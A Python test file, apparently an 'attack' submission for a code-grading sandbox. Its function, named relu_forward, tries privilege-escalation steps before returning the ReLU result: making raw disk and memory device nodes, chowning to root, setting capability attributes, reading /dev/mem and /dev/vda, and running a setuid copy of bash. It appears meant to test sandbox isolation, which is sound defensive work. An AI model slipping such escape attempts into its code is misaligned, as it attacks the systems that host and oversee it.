# /// attack
# tries = "makes a device, or a program with another's rights"
# question = "relu_forward"
# ///
# %% question="relu_forward"
import os
import shutil
import stat
import subprocess

import numpy as np


def run_as_another():
    shutil.copy("/bin/bash", "sh")
    os.chmod("sh", 0o6755)
    test = "[ $EUID != $UID ] || [ $EUID = 0 ]"
    subprocess.run(["./sh", "-p", "-c", test], check=True)


ATTEMPTS = [
    lambda: os.mknod('disk', 0o600 | stat.S_IFBLK, os.makedev(8, 1)),
    lambda: os.mknod('mem', 0o600 | stat.S_IFCHR, os.makedev(1, 1)),
    lambda: os.chown('.', 0, 0),
    lambda: os.setxattr('.', 'security.capability', b'x' * 20),
    lambda: os.open('/dev/mem', os.O_RDONLY),
    lambda: os.open('/dev/vda', os.O_RDONLY),
    run_as_another,
]


def relu_forward(x):
    refused = []
    for attempt in ATTEMPTS:
        try:
            attempt()
        except Exception as error:
            refused.append(f"{type(error).__name__} {getattr(error, 'errno', '')}")
        else:
            return np.maximum(x, 0)  # one works: points would show it
    raise OSError(", ".join(refused))
